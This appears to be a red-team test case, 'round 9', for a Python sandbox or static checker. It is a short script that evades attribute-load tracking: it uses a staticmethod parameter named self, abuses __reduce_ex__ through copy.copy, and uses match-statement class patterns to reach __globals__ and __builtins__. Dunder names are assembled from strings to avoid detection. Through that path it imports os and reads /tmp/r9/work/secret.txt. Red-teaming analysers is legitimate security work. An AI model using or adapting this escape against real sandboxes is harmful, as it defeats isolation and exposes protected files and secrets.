# family: red team, round 9 (staticmethod_param_named_self)
# self.kind is never recorded as an attribute load (self.m is assumed bound); in a staticmethod whose first
# parameter is named self, "self" is whatever is passed, here the class: Base.grab(Base) hands out the plain
# function kind, whose type(self) then returns the metaclass.
import abc
import copy


class Base(abc.ABC):
    def kind(self):
        return type(self)

    @staticmethod
    def grab(self):
        return self.kind


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def metaclass():
    return Base.grab(Base)(Base)


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = metaclass()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
